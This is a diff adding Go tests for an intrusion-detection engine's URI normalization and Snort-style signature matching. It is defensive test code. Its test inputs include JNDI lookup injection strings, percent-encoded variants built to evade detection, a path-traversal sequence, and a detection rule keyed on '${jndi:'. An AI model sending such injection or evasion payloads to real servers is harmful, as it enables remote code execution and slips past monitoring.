@@ -1,0 +1,88 @@
+package ids
+
+import (
+	"testing"
+	"testing/quick"
+)
+
+func TestNormalizeURI(t *testing.T) {
+	cases := []struct{ in, want string }{
+		{"/plain/path", "/plain/path"},
+		{"/%24%7Bjndi%3Aldap%7D", "/${jndi:ldap}"},
+		{"/a//b/./c", "/a/b/c"},
+		{`/a\b\c`, "/a/b/c"},
+		{"/a%2Fb", "/a/b"},
+		{"/bad%zzescape", "/bad%zzescape"}, // invalid escape preserved
+		{"/p%4", "/p%4"},                   // truncated escape preserved
+		{"/q?x=%41+%42", "/q?x=A B"},       // query decoded, '+' is space
+		{"/cgi-bin/.%2e/.%2e/etc", "/cgi-bin/../../etc"},
+		{"", ""},
+	}
+	for _, c := range cases {
+		if got := NormalizeURI(c.in); got != c.want {
+			t.Errorf("NormalizeURI(%q) = %q, want %q", c.in, got, c.want)
+		}
+	}
+}
+
+// Property: normalization is idempotent on its own output for inputs free
+// of double encoding... it is NOT generally idempotent (decoding can expose
+// new escapes), so assert the weaker invariant: a second pass never panics
+// and never grows the string.
+func TestNormalizeURIProperty(t *testing.T) {
+	f := func(s string) bool {
+		once := NormalizeURI(s)
+		twice := NormalizeURI(once)
+		return len(twice) <= len(once) && len(once) <= len(s)+1
+	}
+	if err := quick.Check(f, &quick.Config{MaxCount: 500}); err != nil {
+		t.Error(err)
+	}
+}
+
+// The motivating case: a percent-encoded JNDI lookup in the URI must not
+// evade an http_uri signature (Snort matches the normalized target).
+func TestEngineCatchesEncodedURIEvasion(t *testing.T) {
+	e := engineFor(t, Config{},
+		`alert tcp any any -> any any (msg:"jndi-uri"; content:"${jndi:"; nocase; http_uri; sid:60;)`)
+	// Plain form matches...
+	if len(e.Match(httpSession("GET /?x=${jndi:ldap://e/a} HTTP/1.1\r\nHost: h\r\n\r\n", 80))) != 1 {
+		t.Fatal("plain URI form missed")
+	}
+	// ...and so does the percent-encoded evasion.
+	encoded := "GET /?x=%24%7Bjndi%3Aldap%3A%2F%2Fe%2Fa%7D HTTP/1.1\r\nHost: h\r\n\r\n"
+	if len(e.Match(httpSession(encoded, 80))) != 1 {
+		t.Error("percent-encoded URI evaded the http_uri signature")
+	}
+	// Other buffers are unaffected: the encoded token in a header is not
+	// normalized (headers are not URI-normalized by the engine).
+	hdr := "GET / HTTP/1.1\r\nX-Api: %24%7Bjndi%3A%7D\r\n\r\n"
+	if len(e.Match(httpSession(hdr, 80))) != 0 {
+		t.Error("header content treated as URI")
+	}
+}
+
+// Positional modifiers stay coherent within the normalized pass.
+func TestEngineNormalizedPositional(t *testing.T) {
+	e := engineFor(t, Config{},
+		`alert tcp any any -> any any (msg:"pos"; content:"/admin"; http_uri; offset:0; depth:6; sid:61;)`)
+	if len(e.Match(httpSession("GET /%61dmin/panel HTTP/1.1\r\nHost: h\r\n\r\n", 80))) != 1 {
+		t.Error("depth-anchored match failed on normalized URI")
+	}
+	if len(e.Match(httpSession("GET /x/%61dmin HTTP/1.1\r\nHost: h\r\n\r\n", 80))) != 0 {
+		t.Error("depth constraint ignored on normalized URI")
+	}
+}
+
+// http_raw_uri inspects raw bytes only: encoding evades it by design.
+func TestHTTPRawURIBuffer(t *testing.T) {
+	e := engineFor(t, Config{},
+		`alert tcp any any -> any any (msg:"raw only"; content:"%24%7B"; http_raw_uri; sid:63;)`)
+	if len(e.Match(httpSession("GET /%24%7Bx%7D HTTP/1.1\r\nHost: h\r\n\r\n", 80))) != 1 {
+		t.Error("raw encoded match failed")
+	}
+	// The decoded form does not contain the encoded pattern.
+	if len(e.Match(httpSession("GET /${x} HTTP/1.1\r\nHost: h\r\n\r\n", 80))) != 0 {
+		t.Error("http_raw_uri matched decoded text")
+	}
+}
